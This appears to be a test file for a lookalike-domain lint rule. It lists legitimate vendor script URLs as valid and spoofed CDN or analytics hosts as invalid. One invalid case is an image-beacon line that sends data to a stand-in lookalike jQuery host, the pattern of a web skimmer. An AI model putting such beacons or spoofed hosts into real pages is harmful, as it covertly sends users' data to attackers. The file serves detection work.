import rule from './lookalike-domain.js';
import { ruleTable } from '../test/helpers/rule-table.js';

ruleTable(rule, {
  valid: [
    { name: "a CSP evaluator's list of Google country domains", code: "var allow = ['https://www.google.de/maps', 'https://maps.google.co.uk/', 'https://google.com.br/x', 'https://google.ru/'];" },
    { name: "a third-party registry naming vendors' own second domains", code: "var v = { akamai: 'https://www.akamai.com/', jsdelivr: 'https://www.jsdelivr.com/', gpt: 'https://www.googletagservices.com/tag/js/gpt.js', shop: 'https://cdn.shopifycloud.com/x.js', kl: 'https://x.klarnacdn.net/lib.js', jq: 'https://jquery.org/license' };" },
    "var u = 'https://www.google-analytics.com/analytics.js';",
    "var u = 'https://code.jquery.com/jquery.min.js';",
    "var u = 'https://shop.example/app.js';",
    "var u = 'https://js.stripe.com/v3/';",
  ],
  invalid: [
    { code: "var u = 'https://google-analytics.com.cdn-static.example/ga.js';", messageIds: ['lookalike'], severity: 'medium' },
    { code: "new Image().src = 'https://jquery-cdn.example/p?d=' + data;", messageIds: ['lookalike'], severity: 'high' },
    { code: "var u = 'https://g00gletagmanager.example/gtm.js';", messageIds: ['lookalike'] },
    { code: "var u = '//braintreegateway.example/v1';", messageIds: ['lookalike'] },
  ],
});
